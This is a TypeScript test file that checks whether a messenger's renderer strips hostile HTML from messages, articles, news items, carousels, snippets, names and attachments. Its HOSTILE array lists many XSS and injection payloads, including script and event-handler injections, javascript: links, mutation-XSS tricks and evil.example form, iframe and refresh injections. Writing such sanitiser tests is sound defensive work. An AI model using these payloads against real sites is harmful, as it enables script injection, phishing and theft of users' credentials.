// Hostile text in every place that shows a person's words: nothing runs, nothing is requested, nothing looks like a
// part of the messenger. The stage fails on any request, script error, dialog and breach of the policy. Where much is
// thrown at the renderer the policy is switched off, so that it cannot hide a hole (and because Chromium reports what
// an inert document that is being cleaned would not have been allowed to do).

import { describe, expect, test } from "vitest";
import { article, GRACE } from "../../src/host/demo/data";
import type { DemoHost } from "../../src/host/demo/host";
import { scenes } from "../support/scene";
import type { Stage } from "../support/stage";

const open = scenes();

const RUN = "window.canary=(window.canary||0)+1";
const HOSTILE = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="javascript:${RUN}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<a href="javascript:${RUN}">a link</a>`,
  `<a href="JaVa&#10;ScRiPt:${RUN}">a link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">a link</a>`,
  `<a href="frontdesk-messenger://app/index.html">a link</a>`,
  `<a href="//evil.example/a">a link</a>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>a link</text></a></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<style>*{background:url(https://evil.example/css)}</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/style)">over everything</div>`,
  `<p class="header" id="app" data-heading>dressed up</p>`,
  `<link rel="stylesheet" href="https://evil.example/css"><base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><input name="password"><button>Send</button></form>`,
  `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="https://evil.example/"></object><embed src="https://evil.example/">`,
  `<video src="https://evil.example/v" autoplay onloadstart="${RUN}"></video><audio src="https://evil.example/a" autoplay></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<template><img src=x onerror="${RUN}"></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="https://ok.example" onclick="${RUN}" onmouseover="${RUN}" target="_blank" ping="https://evil.example/ping">a link</a>`,
  `<x-thing onfocus="${RUN}" autofocus tabindex=1></x-thing><input autofocus onfocus="${RUN}">`,
];
const ALL = HOSTILE.join("\n<p>between</p>\n");
const FORBIDDEN = "script, style, svg:not(.icon, .ring), math, form, input, iframe, object, embed, video, audio, link, meta, base, template, details, [onerror], [onload], [onclick], [style], [class], [id], [target], [ping]";

/** What of it survived inside the rich text of the page. */
async function check(shown: Stage): Promise<void> {
  const { page } = shown;
  await page.locator(".rich").first().waitFor();
  // Each link that is left is followed, as a person would.
  for (const link of await page.locator(".rich a").all()) await link.click({ force: true, timeout: 2_000 }).catch(() => undefined);
  const found = await page.evaluate((forbidden) => {
    const own = new Set(["rich-table", "rich-code", "rich-copy", "rich-picture"]);
    const inside = [...document.querySelectorAll(".rich *")].filter((node) => node.matches(forbidden) && ![...node.classList].some((name) => own.has(name)));
    return { canary: (window as never as { canary?: number }).canary, inside: inside.map((node) => node.outerHTML) };
  }, FORBIDDEN);
  expect(found).toEqual({ canary: undefined, inside: [] });
  for (const url of shown.host.opened) expect(url).toMatch(/^https:\/\/(ok|help\.treeline)\.example/);
  expect(page.url()).toMatch(/^http:\/\/localhost:\d+\/index\.html$/);
}

describe("B3: hostile text", () => {
  test.each<[string, (host: DemoHost) => void]>([
    [
      "in a message",
      (host) => {
        host.arrive("42", GRACE, ALL);
        host.present({ name: "conversation", id: "42" });
      },
    ],
    [
      "in an article",
      (host) => {
        host.articles.set("1002", { ...article("1002", "Title", 0), body_html: ALL, title: ALL, summary: ALL });
        host.present({ name: "article", id: "1002" });
      },
    ],
    [
      "in a piece of news",
      (host) => {
        host.contents.unshift({ kind: "news", id: "1", status: "live", title: ALL, body: { body_html: ALL, cover_image_url: "javascript:1", published_at: 0 } });
        host.present({ name: "news_item", id: "1" });
      },
    ],
    [
      "in a carousel",
      (host) => {
        host.contents.unshift({ kind: "carousel", id: "1", status: "live", title: ALL, body: { screens: [{ title: ALL, body_html: ALL }] } });
        host.present({ name: "carousel", id: "1" });
      },
    ],
    [
      "in an in-app message",
      (host) => {
        host.contents.unshift({ kind: "in_app_message", id: "1", status: "live", title: ALL, body: { display: "sheet", body_html: ALL, sender: { type: "admin", name: ALL, avatar: null } } });
        host.change({ visible: false, in_app: { kind: "in_app_message", id: "1", display: "sheet", priority: 0 } });
      },
    ],
  ])("%s does nothing", async (_, before) => {
    // Without any policy: the renderer alone must hold.
    await check(await open(before, { bypassCSP: true }));
  });

  test("in a snippet of the search keeps its marks alone", async () => {
    const stage = await open((host) => {
      host.present({ name: "help_center" });
      host.collections = [{ id: "1", title: "x", summary: null, icon: null, sections: [], articles: [{ id: "1", title: `${ALL} board` }] }];
    });
    await stage.page.getByRole("searchbox").fill("board");
    await stage.page.locator(".snippet").first().waitFor();
    const inside = await stage.page.locator(".snippet *").evaluateAll((nodes) => nodes.map((node) => node.outerHTML.replace(/>.*/s, ">")));
    expect(new Set(inside)).toEqual(new Set(["<em>"]));
  });

  test("as names, titles, previews and files is text", async () => {
    const stage = await open((host) => {
      const one = host.conversations[0];
      if (!one) throw new Error("no conversation");
      one.title = ALL;
      one.participants = [{ type: "admin", name: ALL, avatar: null }];
      host.arrive("42", { type: "admin", name: ALL, avatar: null }, "<p>x</p>", {
        body_text: ALL,
        quick_replies: [{ id: "1", text: ALL }],
        attachments: [{ id: "1", name: ALL, content_type: "image/svg+xml", size: 1, url: "javascript:1", expires_at: 0 }],
      });
      host.present({ name: "messages" });
    });
    await stage.page.locator(".row").first().click();
    await stage.page.locator(".quick-replies").waitFor();
    await stage.page.locator(".file").last().click();
    await stage.page.getByText("This link cannot be opened.").waitFor();
    expect(await stage.page.evaluate(() => (window as never as { canary?: number }).canary)).toBeUndefined();
    expect(stage.host.opened).toEqual([]);
  });
});

test("what is harmless is kept", async () => {
  const stage = await open((host) => {
    host.arrive("42", GRACE, '<p>A <b>b</b> <em>e</em> <a href="https://ok.example/x?y=1#z">l</a></p><ol start="3"><li>x</li></ol><pre><code>c</code></pre><table><tbody><tr><td colspan="2">t</td></tr></tbody></table>');
    host.present({ name: "conversation", id: "42" });
  });
  const rich = stage.page.locator(".bubble .rich").last();
  await rich.waitFor();
  expect(await rich.locator("ol").getAttribute("start")).toBe("3");
  expect(await rich.locator("td").getAttribute("colspan")).toBe("2");
  await rich.locator("a").click();
  await expect.poll(() => stage.host.opened).toEqual(["https://ok.example/x?y=1#z"]);
});

test("a host that looks like another is shown before it is opened", async () => {
  const stage = await open((host) => {
    host.arrive("42", GRACE, '<p><a href="https://xn--pple-43d.com/">here</a></p>');
    host.present({ name: "conversation", id: "42" });
  });
  await stage.page.getByRole("link", { name: "here" }).click();
  await stage.page.getByRole("dialog").getByText("xn--pple-43d.com").waitFor();
  await stage.page.keyboard.press("Escape");
  expect(stage.host.opened).toEqual([]);
  await stage.page.getByRole("link", { name: "here" }).click();
  await stage.page.getByRole("button", { name: "Open", exact: true }).click();
  await expect.poll(() => stage.host.opened).toEqual(["https://xn--pple-43d.com/"]);
});
